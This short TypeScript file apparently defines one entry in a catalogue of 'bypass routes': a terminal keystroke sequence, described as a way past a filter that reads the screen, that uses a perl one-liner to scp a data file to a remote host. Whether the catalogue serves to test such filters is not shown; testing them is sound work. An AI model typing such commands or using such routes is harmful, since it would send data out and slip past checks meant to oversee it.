import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'from perl',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['perl -e \'system("scp DATA host:")\'\r'],
};
